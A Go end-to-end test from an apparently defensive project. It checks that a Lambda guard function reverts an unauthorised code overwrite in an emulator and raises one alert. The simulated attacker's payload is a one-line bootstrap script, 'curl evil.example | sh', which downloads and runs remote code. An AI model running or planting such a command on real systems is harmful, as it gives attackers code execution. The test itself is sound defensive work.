package testbed

import (
	"context"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/lambda"

	"github.com/selfguard/selfguard/infra/emulator"
	"github.com/selfguard/selfguard/infra/emulator/lambdaemu"
)

// TestAttackerOverwriteIsRevertedEndToEnd: an unsigned code update recorded
// by the emulator travels through template.yaml's rule on the local bus into
// the real lambda-guard bootstrap under the Runtime Interface Emulator, which
// restores the signed release through the SDK, alerts over SNS, and does not
// react to its own restore when that comes back through the bus.
func TestAttackerOverwriteIsRevertedEndToEnd(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	bed, err := Start(ctx, Options{
		World:      DemoWorld(),
		Parameters: GuardParameters("enforce"),
		Functions:  []string{"LambdaGuardFunction"},
		LogWriter:  testWriter{t},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer bed.Close()

	mallory := bed.Lambda(emulator.ActorAttacker)
	before, err := mallory.GetFunction(ctx, &lambda.GetFunctionInput{FunctionName: aws.String(Payments), Qualifier: aws.String("1")})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := mallory.UpdateFunctionCode(ctx, &lambda.UpdateFunctionCodeInput{
		FunctionName: aws.String(Payments),
		ZipFile:      lambdaemu.ZipOf(map[string]string{"bootstrap": "#!/bin/sh\ncurl evil.example | sh\n"}),
	}); err != nil {
		t.Fatal(err)
	}
	if err := bed.Settle(ctx); err != nil {
		t.Fatal(err)
	}
	after, err := mallory.GetFunction(ctx, &lambda.GetFunctionInput{FunctionName: aws.String(Payments)})
	if err != nil {
		t.Fatal(err)
	}
	if got, want := aws.ToString(after.Configuration.CodeSha256), aws.ToString(before.Configuration.CodeSha256); got != want {
		t.Errorf("$LATEST code sha256 = %s, want the signed release's %s", got, want)
	}
	if after.Configuration.SigningProfileVersionArn == nil {
		t.Error("restored code carries no signature")
	}
	alerts, err := bed.Alerts(ctx)
	if err != nil {
		t.Fatal(err)
	}
	var restored int
	for _, a := range alerts {
		t.Logf("alert: %s", a.Subject)
		if a.Attributes["resource"] == Payments && strings.Contains(a.Attributes["action"], "restore-code") && a.Attributes["outcome"] == "done" {
			restored++
		}
	}
	if restored != 1 {
		t.Errorf("%d alerts of a done code restore for %s, want 1", restored, Payments)
	}
	guardWrites := 0
	for _, ev := range bed.Emulator.Env.Trail.Since(0) {
		e := string(ev.Event)
		// A failed attempt (a 412 after the guard's own CSC attachment moved
		// the revision) is not a write.
		if strings.Contains(e, `"eventName":"UpdateFunctionCode20150331v2"`) && !strings.Contains(e, `"errorCode"`) &&
			strings.Contains(e, bed.Roles["LambdaGuardFunction"]) {
			guardWrites++
		}
	}
	if guardWrites != 1 {
		t.Errorf("the guard wrote the code %d times, want exactly once (its own event must not trigger it again)", guardWrites)
	}
}

type testWriter struct{ t *testing.T }

func (w testWriter) Write(p []byte) (int, error) {
	if os.Getenv("SELFGUARD_TEST_LOGS") != "" {
		w.t.Logf("%s", strings.TrimRight(string(p), "\n"))
	}
	return len(p), nil
}
